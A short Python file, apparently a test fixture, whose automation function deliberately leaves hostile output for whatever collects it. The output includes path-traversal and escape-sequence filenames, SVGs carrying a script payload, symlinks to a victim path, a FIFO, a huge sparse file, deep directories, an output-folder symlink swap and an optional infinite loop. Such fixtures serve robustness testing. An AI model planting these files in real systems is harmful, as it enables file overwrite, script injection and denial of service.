"""Leaves files that are made to harm whoever collects, stores, lists or opens them."""

import os
import socket


async def automation(page, params):
    victim = params["victim"]
    os.makedirs("output/folder")
    names = ["..a", "..\\..\\up.txt", "bell\a\x1b[31m.txt", b"\xff.bin", ".tmp-x", "page.html", "picture.svg"]
    for name in names:
        with open(os.path.join(b"output", name if isinstance(name, bytes) else name.encode()), "w") as file:
            file.write("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.domain)</script></svg>")
    os.symlink(victim, "output/link")
    os.symlink(os.path.dirname(victim), "output/linked-folder")
    os.mkfifo("output/pipe")
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind("output/socket")
    with open("output/sparse", "wb") as file:
        # The Machine's own limits may forbid a whole terabyte.
        for size in (1024**4, 8 * 1024**3, 150 * 1024**2):
            try:
                file.truncate(size)
                break
            except OSError:
                continue
    os.chmod("output/..a", 0)
    os.mkdir("output/closed", 0)
    for number in range(params.get("many", 0)):
        open(f"output/folder/{number}", "w").close()
    deep = os.open("output", os.O_RDONLY)
    for _ in range(100):
        os.mkdir("deep", dir_fd=deep)
        deep, above = os.open("deep", os.O_RDONLY, dir_fd=deep), deep
        os.close(above)
    if params.get("replaces"):
        os.rename("output", "elsewhere")
        os.symlink(os.path.dirname(victim), "output")
    if params.get("spins"):
        while True:
            pass
    return "littered"
